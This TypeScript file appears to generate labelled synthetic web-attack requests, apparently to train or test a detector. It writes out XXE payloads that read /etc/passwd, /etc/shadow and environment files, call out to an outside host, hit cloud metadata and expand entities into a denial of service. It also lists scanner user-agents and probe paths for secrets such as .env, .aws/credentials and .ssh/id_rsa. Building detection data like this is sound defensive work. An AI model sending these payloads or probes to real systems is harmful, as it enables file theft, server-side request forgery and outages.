import { body, type LabelledAttack } from '../attack.ts';
import type { Random } from '../random.ts';
import { multipart } from './calls.ts';
import { refusal } from './spots.ts';
import { AGENTS, person, slug, word } from './words.ts';

const FILES = [
  '/etc/passwd',
  '/etc/hostname',
  '/etc/shadow',
  '/proc/self/environ',
  'c:/windows/win.ini',
  '/var/www/config.php',
];

/** Document type declarations that read files, call out or explode. */
export function entityText(r: Random, root = 'order'): readonly [text: string, technique: string] {
  const e = `${word(r)}${r.int(1, 999)}`;
  const file = r.pick(FILES);
  const out = `http://198.51.100.${r.int(2, 250)}:${r.int(1000, 9999)}/${e}`;
  const head = r.pick(['<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-8"?>', '']);
  const use = `<${root}><name>&${e};</name><qty>${r.int(1, 9)}</qty></${root}>`;
  return r.pick<readonly [string, string]>([
    [
      `${head}<!DOCTYPE ${root} [<!ENTITY ${e} SYSTEM "file://${file.startsWith('/') ? '' : '/'}${file}">]>${use}`,
      'file entity',
    ],
    [
      `${head}<!DOCTYPE ${root} [<!ELEMENT ${root} ANY><!ENTITY ${e} SYSTEM '${file}'>]>${use}`,
      'path entity',
    ],
    [`${head}<!DOCTYPE ${root} [<!ENTITY ${e} SYSTEM "${out}">]>${use}`, 'outside entity'],
    [`${head}<!DOCTYPE ${root} [<!ENTITY % ${e} SYSTEM "${out}.dtd"> %${e};]><${root}/>`, 'parameter entity'],
    [
      `${head}<!DOCTYPE ${root} [<!ENTITY ${e} SYSTEM "php://filter/read=convert.base64-encode/resource=${file}">]>${use}`,
      'php filter',
    ],
    [`${head}<!DOCTYPE ${root} [<!ENTITY ${e} SYSTEM "expect://id">]>${use}`, 'expect'],
    [
      `${head}<!DOCTYPE ${root} [<!ENTITY ${e} PUBLIC "-//A//B" "file://${file.startsWith('/') ? '' : '/'}${file}">]>${use}`,
      'public entity',
    ],
    [
      `${head}<!DOCTYPE lolz [<!ENTITY ${e} "lol"><!ENTITY b "${`&${e};`.repeat(10)}"><!ENTITY c "${'&b;'.repeat(10)}"><!ENTITY d "${'&c;'.repeat(10)}">]><lolz>&d;</lolz>`,
      'expansion',
    ],
    [
      `<${root} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file://${file.startsWith('/') ? '' : '/'}${file}"/><n>${e}</n></${root}>`,
      'xinclude',
    ],
    [
      `${head}<!DOCTYPE ${root} [<!ENTITY % file SYSTEM "file://${file.startsWith('/') ? '' : '/'}${file}"><!ENTITY % ${e} SYSTEM "${out}">%${e};%send;]><${root}/>`,
      'out of band',
    ],
    [
      `${head}<!DOCTYPE ${root} [<!ENTITY ${e} SYSTEM "http://169.254.169.254/latest/meta-data/">]>${use}`,
      'metadata entity',
    ],
  ]);
}

function entityCall(
  r: Random,
  shown: string,
  technique: string,
  location: LabelledAttack['location'],
  rest: object,
): LabelledAttack {
  return {
    family: 'xxe',
    accepted: ['xxe', 'ssrf', 'path-traversal'],
    technique,
    location,
    outcome: 'attempt',
    shown,
    exchange: {
      method: 'POST',
      host: r.pick(['edi.hollowbrook.example', 'soap.hollowbrook.example']),
      path: r.pick(['/cxml/orders', '/services/OrderService', '/import/xml']),
      ...rest,
      ...refusal(r),
    },
  };
}

export function entityBody(r: Random): LabelledAttack {
  const [text, technique] = entityText(r, r.pick(['order', 'root', 'data', 'soapenv:Envelope', 'catalog']));
  const type = r.pick(['application/xml', 'text/xml; charset=utf-8', 'application/soap+xml', 'text/xml']);
  return entityCall(r, text, technique, 'request.body', body(type, text));
}

export function entityElsewhere(r: Random): LabelledAttack {
  const [text, technique] = entityText(r, r.pick(['svg', 'root', 'order']));
  const encoded = encodeURIComponent(text);
  if (r.chance(0.35))
    return entityCall(
      r,
      text,
      `${technique} in a file`,
      'request.body',
      multipart(
        [
          { name: 'title', text: slug(r) },
          {
            name: 'file',
            text,
            fileName: r.pick(['logo.svg', 'order.xml', 'data.xml']),
            type: 'image/svg+xml',
          },
        ],
        r,
      ),
    );
  if (r.chance(0.4))
    return entityCall(r, text, `${technique} in a query`, 'request.query', {
      method: 'GET',
      query: `format=xml&doc=${encoded}`,
    });
  if (r.chance(0.5))
    return entityCall(
      r,
      text,
      `${technique} in a form`,
      'request.body',
      body('application/x-www-form-urlencoded', `author=${word(r)}&xml=${encoded}`),
    );
  return entityCall(
    r,
    text,
    `${technique} in a json field`,
    'request.body',
    body('application/json', JSON.stringify({ author: person(r), xml: text })),
  );
}

const TOOLS: readonly ((r: Random) => string)[] = [
  (r) => `sqlmap/1.${r.int(5, 9)}.${r.int(1, 12)}#stable (https://sqlmap.org)`,
  (r) =>
    `Mozilla/5.00 (Nikto/2.${r.int(1, 5)}.${r.int(0, 9)}) (Evasions:None) (Test:${r.int(1, 9999).toString().padStart(6, '0')})`,
  (r) => `Nuclei - Open-source project (github.com/projectdiscovery/nuclei) v${r.int(2, 3)}.${r.int(0, 9)}`,
  (r) => `WPScan v3.8.${r.int(1, 28)} (https://wpscan.com/wordpress-security-scanner)`,
  (r) => `Fuzz Faster U Fool v${r.int(1, 2)}.${r.int(0, 9)}.${r.int(0, 9)}`,
  (r) => `gobuster/3.${r.int(0, 9)}.${r.int(0, 9)}`,
  () => 'DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)',
  (r) => `feroxbuster/2.${r.int(0, 11)}.${r.int(0, 9)}`,
  () => 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
  (r) => `masscan/1.${r.int(0, 3)}.${r.int(0, 9)} (https://github.com/robertdavidgraham/masscan)`,
  (r) => `Wfuzz/3.${r.int(0, 1)}.${r.int(0, 9)}`,
  () => 'Mozilla/5.0 zgrab/0.x',
  (r) => `Arachni/v1.${r.int(0, 6)}`,
  () => 'w3af.org',
  (r) => `commix/v${r.int(3, 4)}.${r.int(0, 9)}-stable (https://commixproject.com)`,
  (r) => `Mozilla/5.0 [en] (X11, U; OpenVAS-VT ${r.int(20, 23)}.${r.int(1, 9)}.${r.int(0, 9)})`,
  (r) => `WhatWeb/0.5.${r.int(0, 5)}`,
  (r) => `Mozilla/5.0 (compatible; Netsparker; ${r.int(4, 6)}.${r.int(0, 9)})`,
  (r) => `httpx - Open-source project (github.com/projectdiscovery/httpx) v1.${r.int(1, 6)}.${r.int(0, 9)}`,
  (r) => `dirsearch/0.4.${r.int(1, 9)}`,
];

const call = (r: Random) =>
  r.pick<readonly [string, string]>([
    ['shop.larkfield.example', '/api/search'],
    ['catalog.larkfield.example', '/v2/items/1001'],
    ['crm.brackenridge.example', '/api/contacts'],
    ['account.tarnwick.example', '/api/me'],
    ['drive.tarnwick.example', '/api/files'],
    ['www.larkfield.example', `/${word(r)}-${word(r)}`],
  ]);

function scan(
  technique: string,
  shown: string,
  location: LabelledAttack['location'],
  host: string,
  path: string,
  agent: string,
  r: Random,
): LabelledAttack {
  return {
    family: 'scanner',
    accepted: ['scanner'],
    technique,
    location,
    outcome: 'attempt',
    shown,
    exchange: {
      method: r.pick(['GET', 'GET', 'GET', 'HEAD']),
      host,
      path,
      requestHeaders: { 'user-agent': agent },
      ...refusal(r),
    },
  };
}

export function scannerTool(r: Random): LabelledAttack {
  const agent = r.pick(TOOLS)(r);
  const [host, path] = call(r);
  return scan('tool names itself', `${agent} ${path}`, 'request.header', host, path, agent, r);
}

const PROBES: readonly ((r: Random) => string)[] = [
  (r) =>
    `/${r.pick(['', 'api/', 'app/', 'backend/', 'laravel/', 'public/', `${word(r)}/`])}.env${r.pick(['', '', '.bak', '.production', '.old', '.local'])}`,
  (r) =>
    `/${r.pick(['', 'app/', 'www/', `${word(r)}/`])}.git/${r.pick(['config', 'HEAD', 'index', 'logs/HEAD'])}`,
  (r) =>
    `/${r.pick(['phpmyadmin', 'phpMyAdmin', 'pma', 'myadmin', 'mysqladmin', 'phpmyadmin4'])}/${r.pick(['', 'index.php', 'scripts/setup.php'])}`,
  (r) =>
    `/${r.pick(['', 'wordpress/', 'blog/', 'wp/', 'old/'])}${r.pick(['wp-login.php', 'xmlrpc.php', 'wp-config.php.bak', 'wp-admin/setup-config.php'])}`,
  (r) =>
    `/${r.pick(['', 'api/', 'lib/', 'laravel/', 'www/'])}vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php`,
  (r) =>
    `/${r.pick(['', 'manage/', 'api/', 'admin/'])}actuator/${r.pick(['env', 'heapdump', 'gateway/routes', 'configprops'])}`,
  (r) =>
    r.pick([
      '/cgi-bin/luci/;stok=/locale',
      '/boaform/admin/formLogin',
      '/HNAP1/',
      '/manager/html',
      '/solr/admin/info/system',
      '/_ignition/execute-solution',
      '/telescope/requests',
      '/server-status',
      '/.DS_Store',
      '/.aws/credentials',
      '/.vscode/sftp.json',
      '/owa/auth/logon.aspx',
      '/remote/fgt_lang',
      '/geoserver/web/',
      '/druid/index.html',
      '/.svn/entries',
      '/.htpasswd',
      '/web.config.bak',
      '/phpinfo.php',
      '/info.php',
      '/adminer.php',
      '/jenkins/script',
      '/invoker/JMXInvokerServlet',
      '/struts2-showcase/',
      '/.ssh/id_rsa',
      '/GponForm/diag_Form',
      '/setup.cgi',
      '/hudson/script',
      '/axis2-admin/',
      '/jmx-console/',
    ]),
  (r) =>
    `/${r.pick(['backup', 'db', 'dump', 'database', 'site'])}.${r.pick(['sql', 'sql.gz', 'tar.gz', 'zip', 'bak'])}`,
];

export function scannerProbe(r: Random): LabelledAttack {
  const host = r.pick([
    'shop.larkfield.example',
    'catalog.larkfield.example',
    'crm.brackenridge.example',
    'pricing.larkfield.example',
    'fhir.tarnwick.example',
  ]);
  const path = r.pick(PROBES)(r);
  const reply = r.chance(0.85)
    ? { status: 404, responseBody: '{"error":"not_found"}' }
    : {
        status: 200,
        responseHeaders: { 'content-type': 'text/html' },
        responseBody: '<!doctype html><div id="root"></div>',
      };
  const made = scan(
    'known weak path',
    `${host}${path}`,
    'request.path',
    host,
    path,
    r.pick(AGENTS.slice(0, 4)),
    r,
  );
  return { ...made, exchange: { ...made.exchange, method: 'GET', ...reply } };
}
